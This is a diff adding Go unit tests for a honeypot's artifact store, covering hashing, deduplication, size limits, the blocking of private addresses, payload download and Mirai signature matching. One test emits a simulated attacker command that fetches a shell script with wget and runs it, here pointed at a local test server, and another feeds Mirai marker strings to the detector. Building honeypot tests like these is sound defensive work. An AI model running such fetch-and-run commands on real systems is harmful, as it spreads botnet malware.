@@ -0,0 +1,140 @@
+package artifacts
+
+import (
+	"bytes"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/artifacts"
+	"github.com/riotpot/pkg/events"
+	"github.com/stretchr/testify/assert"
+)
+
+const (
+	// SHA-256 of "test"
+	testSHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
+)
+
+func TestCapture(t *testing.T) {
+	dir := t.TempDir()
+
+	store := artifacts.NewStore()
+	assert.NoError(t, store.SetDirectory(dir))
+
+	a, err := store.Capture(bytes.NewBufferString("test"), artifacts.Origin{Source: "198.51.100.7:4000", Method: artifacts.FTPMethod, Filename: "a.sh"})
+	assert.NoError(t, err)
+	assert.Equal(t, testSHA256, a.SHA256)
+	assert.Equal(t, "098f6bcd4621d373cade4e832627b4f6", a.MD5)
+	assert.Equal(t, "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3", a.SHA1)
+	assert.Equal(t, int64(4), a.Size)
+	assert.True(t, a.Stored)
+
+	// The same content is kept once
+	a, err = store.Capture(bytes.NewBufferString("test"), artifacts.Origin{Source: "198.51.100.8:4000", Method: artifacts.SCPMethod, Filename: "b.sh"})
+	assert.NoError(t, err)
+	assert.Equal(t, 2, a.Count)
+	assert.Len(t, a.Origins, 2)
+	assert.Equal(t, "b.sh", a.Origins[1].Filename)
+	assert.Equal(t, int64(4), store.GetTotal())
+
+	f, _, err := store.Open(testSHA256)
+	assert.NoError(t, err)
+	content, _ := io.ReadAll(f)
+	f.Close()
+	assert.Equal(t, "test", string(content))
+
+	// The metadata is loaded again from the directory
+	reloaded := artifacts.NewStore()
+	assert.NoError(t, reloaded.SetDirectory(dir))
+	a, err = reloaded.GetArtifact(testSHA256)
+	assert.NoError(t, err)
+	assert.Equal(t, 2, a.Count)
+	assert.Equal(t, int64(4), reloaded.GetTotal())
+	assert.Len(t, reloaded.GetArtifacts(), 1)
+}
+
+func TestLimits(t *testing.T) {
+	store := artifacts.NewStore()
+	assert.NoError(t, store.SetDirectory(t.TempDir()))
+	store.SetLimits(4, 6)
+
+	// Larger than the size of an artifact
+	a, err := store.Capture(bytes.NewBufferString("too large"), artifacts.Origin{Method: artifacts.HTTPMethod})
+	assert.NoError(t, err)
+	assert.False(t, a.Stored)
+	assert.Equal(t, int64(9), a.Size)
+
+	_, _, err = store.Open(a.SHA256)
+	assert.Error(t, err)
+
+	a, err = store.Capture(bytes.NewBufferString("test"), artifacts.Origin{Method: artifacts.HTTPMethod})
+	assert.NoError(t, err)
+	assert.True(t, a.Stored)
+
+	// Larger than the space left
+	a, err = store.Capture(bytes.NewBufferString("abcd"), artifacts.Origin{Method: artifacts.HTTPMethod})
+	assert.NoError(t, err)
+	assert.False(t, a.Stored)
+	assert.Equal(t, int64(4), store.GetTotal())
+}
+
+func TestDownload(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "#!/bin/sh\necho downloaded\n")
+	}))
+	defer server.Close()
+
+	store := artifacts.Artifacts
+	assert.NoError(t, store.SetDirectory(t.TempDir()))
+
+	// The server is in the loopback, only allowed for testing
+	store.SetDownloads(true, true)
+	defer store.SetDownloads(false, false)
+	assert.True(t, store.IsDownloading())
+
+	ev := events.NewEvent(events.CommandEvent, "Telnet", "198.51.100.7:4000")
+	events.Events.Emit(ev.With("command", "cd /tmp; wget "+server.URL+"/bot.sh; sh bot.sh"))
+
+	assert.Eventually(t, func() bool {
+		return len(store.GetArtifacts()) == 1
+	}, 5*time.Second, 10*time.Millisecond)
+
+	a := store.GetArtifacts()[0]
+	assert.True(t, a.Stored)
+	assert.Equal(t, artifacts.DownloadMethod, a.Origins[0].Method)
+	assert.Equal(t, server.URL+"/bot.sh", a.Origins[0].URL)
+	assert.Equal(t, "/bot.sh", a.Origins[0].Filename)
+}
+
+func TestIsPublic(t *testing.T) {
+	for _, ip := range []string{"93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "::ffff:93.184.216.34"} {
+		assert.True(t, artifacts.IsPublic(net.ParseIP(ip)), ip)
+	}
+
+	// Private, shared (CGNAT), benchmarking and NAT64 addresses are not reached
+	for _, ip := range []string{
+		"10.1.2.3", "127.0.0.1", "169.254.169.254", "100.64.0.1", "192.0.0.8", "198.18.0.1",
+		"::1", "fd00::1", "fe80::1", "64:ff9b::a00:1", "64:ff9b:1::1", "::ffff:10.0.0.1",
+	} {
+		assert.False(t, artifacts.IsPublic(net.ParseIP(ip)), ip)
+	}
+	assert.False(t, artifacts.IsPublic(nil))
+}
+
+func TestSignatures(t *testing.T) {
+	store := artifacts.NewStore()
+
+	// Matched with the default rules
+	a, err := store.Capture(bytes.NewBufferString("\x7fELF\x01\x01\x01dvrHelper\x00/dev/watchdog\x00"), artifacts.Origin{Method: artifacts.FTPMethod})
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"Mirai"}, a.Rules)
+	assert.Equal(t, []string{"Mirai"}, a.Families)
+
+	a, err = store.Capture(bytes.NewBufferString("test"), artifacts.Origin{Method: artifacts.FTPMethod})
+	assert.NoError(t, err)
+	assert.Empty(t, a.Rules)
+}